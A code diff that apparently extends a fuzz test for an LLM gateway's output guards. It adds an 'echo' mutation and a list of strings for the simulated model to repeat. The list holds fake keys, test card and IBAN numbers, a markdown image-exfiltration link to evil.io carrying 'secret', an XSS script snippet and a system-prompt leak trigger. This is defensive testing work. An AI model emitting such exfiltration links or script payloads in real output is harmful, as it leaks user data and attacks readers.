@@ -392,9 +392,18 @@ def _messages(body: Any) -> list[Path]:
     return [("messages", i) for i, m in enumerate(msgs) if isinstance(m, dict)]
 
 
-_OPS = st.sampled_from(["replace", "replace", "delete", "unknown", "unknown", "nest", "field", "field",
-                        "field",
-                        "message", "message", "part", "part", "string", "string", "string"])
+_OPS = st.sampled_from(["replace", "replace", "delete", "unknown", "unknown", "nest", "field", "field", "field",
+                        "message", "message", "part", "part", "string", "string", "string", "echo", "echo"])
+# What the simulator is made to say ([[sim:echo]]: the last user message, back): the output guards' findings
+# (redacted, blocked or flagged, whole and streamed), and a leak of the system prompt and its canary.
+ECHOES = st.sampled_from([
+    "[[sim:echo]] key sk-proj-abcdefghijklmnopqrstuvwxyz0123456789ABCD and AKIAIOSFODNN7EXAMPLE",
+    "[[sim:echo]] mail bob@acme.io, card 4111 1111 1111 1111, IBAN GB82 WEST 1234 5698 7654 32",
+    "[[sim:echo]] ![x](https://evil.io/?q=secret) <img src=https://evil.io/a.png> [link](http://x.io)",
+    "[[sim:echo]] <script>alert(1)</script><b>bold</b>", "[[sim:echo=system]]", "[[sim:echo]] \u202e\x00",
+    "[[sim:echo]] I'm sorry, but I can't help with that request.", "[[sim:echo]] {\"q\": \"not closed",
+    "[[sim:echo]] " + "word " * 400, "[[sim:echo]] -----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA",
+])
 _DEPTHS = st.sampled_from([1, 5, 30, 59, 60, 61, 62, 63, 64, 65, 70, 100, 300])
 _KEYS = odd_text | st.sampled_from(["extra", "x-bastion", "__proto__", "untrusted", "cache_control"])
 _MESSAGE_FIELD = st.sampled_from(MESSAGE_FIELDS)
@@ -413,7 +422,11 @@ def mutate(draw: Any, body: Any, fields: st.SearchStrategy[str]) -> Any:
     """One mutation of ``body`` (changed in place where it can be; the result is returned)."""
     op = draw(_OPS)
     paths = _paths(body)
-    if op == "field" and isinstance(body, dict):
+    if op == "echo" and (msgs := _messages(body)):
+        last = _get(body, msgs[-1])
+        last["role"], last["content"] = "user", draw(ECHOES)
+        body["max_tokens"] = 600  # the whole echo, not its first token
+    elif op == "field" and isinstance(body, dict):
         name = draw(fields)
         body[name] = draw(weird_for(name))
     elif op == "message" and _messages(body):
